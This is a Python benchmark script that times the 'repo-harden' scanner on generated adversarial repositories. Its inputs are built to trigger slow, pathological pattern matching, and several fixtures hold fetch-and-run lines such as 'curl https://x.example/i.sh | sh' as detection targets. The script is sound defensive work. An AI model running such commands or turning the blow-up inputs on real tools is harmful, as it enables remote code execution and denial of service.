#!/usr/bin/env python3
"""Time and peak memory of `repo-harden scan` on adversarial repositories, at 1x, 2x and 4x
their size: the growth from one size to the next is about 2 when the work is linear in the
input, about 4 when it is quadratic, far more when it is exponential (issue 14).

This is a script, not a timed test: it never fails on a slow result. Each run has a time
limit (`--limit`, default 120 s); a run that reaches it is reported as `>LIMIT`. Point it at
any installed repo-harden, such as an older version, to compare:

    python benchmarks/bench_hostile.py                            # the one on PATH
    python benchmarks/bench_hostile.py --repo-harden /tmp/old/bin/repo-harden --limit 60
    python benchmarks/bench_hostile.py --case codeowners-levels --sizes 12,16
"""

from __future__ import annotations

import argparse
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from fixture_git import commit_all

Files = dict[str, str]
WORKFLOW = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"


@dataclass(frozen=True)
class Case:
    name: str
    unit: str  # what the size counts
    sizes: tuple[int, ...]  # 1x, 2x, 4x
    files: Callable[[int], Files]
    select: str


def _codeowners_levels(levels: int) -> Files:
    deep = "/".join(["d"] * 20)  # an action.yml deep down: a sensitive path, matched
    return {
        ".github/CODEOWNERS": "/" + "**/" * levels + "zzz @acme/a\n",
        f"{deep}/action.yml": "name: a\nruns:\n  using: composite\n  steps: []\n",
    }


def _exclude_levels(levels: int) -> Files:
    deep = "/".join(["d"] * 30)
    return {".repo-harden.toml": f'exclude = ["{"**/" * levels}zzz"]\n', f"{deep}/x.yml": "a: 1\n"}


def _codeowners_stars(stars: int) -> Files:
    return {
        ".github/CODEOWNERS": "*a" * stars + "*b @acme/b\n",
        ".github/workflows/" + "a" * 60 + ".yml": WORKFLOW + "      - run: echo\n",
    }


def _non_ascii_script(lines: int) -> Files:
    body = "echo 'café'\n" * lines
    return {"setup.sh": "#!/bin/sh\n" + body + "curl -s https://x.example/i.sh | sh\n"}


def _unclosed_expressions(kilobytes: int) -> Files:
    count = kilobytes * 1024 // 4
    return {"x.sh": "#!/bin/sh\necho " + "${{ " * count + "\ncurl https://x.example | sh\n"}


def _spaces(kilobytes: int) -> Files:
    run = " " * (kilobytes * 1024)
    return {
        "requirements.txt": f"flask==3.0.0{run}x\n",
        "pip.conf": f"[global]\nindex{run}x\n",
        "Dockerfile": f"# escape=x{run}x\nFROM node:20\n",
        "Makefile": f"X = a{run}x\nall:\n\techo\n",
    }


def _nesting(levels: int) -> Files:
    return {"deep.sh": "#!/bin/sh\n" + "( " * levels + "curl x | sh" + " )" * levels + "\n"}


def _findings(megabytes: int) -> Files:
    step = "      - uses: actions/checkout@v4\n      - run: curl https://x.example/i.sh | bash\n"
    count = megabytes * 1024 * 1024 // len(step)
    return {".github/workflows/big.yml": WORKFLOW + step * count}


CASES = (
    Case("codeowners-levels", "`**/` levels", (12, 24, 48), _codeowners_levels, "OWN"),
    Case("codeowners-stars", "`*a` pairs", (12, 24, 48), _codeowners_stars, "OWN"),
    Case("exclude-levels", "`**/` levels", (12, 24, 48), _exclude_levels, "RH"),
    Case("non-ascii-script", "lines", (10000, 20000, 40000), _non_ascii_script, "DL001"),
    Case("unclosed-expressions", "KB", (100, 200, 400), _unclosed_expressions, "DL001"),
    Case("spaces", "KB per file", (20, 40, 80), _spaces, "ALL"),
    Case("shell-nesting", "levels", (1000, 2000, 4000), _nesting, "DL001"),
    Case("findings", "MB of workflow", (1, 2, 4), _findings, "PIN001,DL001"),
)


def run_scan(binary: str, root: Path, select: str, limit: float) -> tuple[float | None, int]:
    """Seconds (None past `limit`) and peak memory in MiB of one scan."""
    command = [binary, "scan", "--select", select, "--format", "json", "--fail-on", "never"]
    started = time.perf_counter()
    with Path(os.devnull).open("wb") as sink:
        process = subprocess.Popen(command, cwd=root, stdout=sink, stderr=sink)
        deadline = started + limit
        while True:
            pid, _, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                return time.perf_counter() - started, usage.ru_maxrss // 1024
            if time.perf_counter() > deadline:
                process.kill()
                _, _, usage = os.wait4(process.pid, 0)
                return None, usage.ru_maxrss // 1024
            time.sleep(0.01)


def bench(case: Case, sizes: tuple[int, ...], binary: str, limit: float) -> None:
    previous: float | None = None
    for size in sizes:
        with tempfile.TemporaryDirectory() as folder:
            root = Path(folder)
            for name, text in case.files(size).items():
                (root / name).parent.mkdir(parents=True, exist_ok=True)
                (root / name).write_text(text, encoding="utf-8")
            commit_all(root)
            seconds, memory = run_scan(binary, root, case.select, limit)
        shown = f"{seconds:8.2f} s" if seconds is not None else f"  >{limit:g} s"
        growth = f"x{seconds / previous:5.2f}" if seconds and previous else "      "
        print(f"{case.name:22} {size:>7} {case.unit:15} {shown} {growth} {memory:6} MiB")
        previous = seconds
        if seconds is None:
            break  # a larger input would only take longer


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--repo-harden", default=shutil.which("repo-harden") or "repo-harden")
    parser.add_argument("--limit", type=float, default=120.0, help="seconds per run")
    parser.add_argument("--case", action="append", help="only these cases (repeatable)")
    parser.add_argument("--sizes", help="override the sizes, comma-separated")
    args = parser.parse_args()
    print(f"{'case':22} {'size':>7} {'unit':15} {'time':>10} growth {'peak':>10}")
    for case in CASES:
        if args.case and case.name not in args.case:
            continue
        sizes = tuple(int(s) for s in args.sizes.split(",")) if args.sizes else case.sizes
        bench(case, sizes, args.repo_harden, args.limit)


if __name__ == "__main__":
    main()
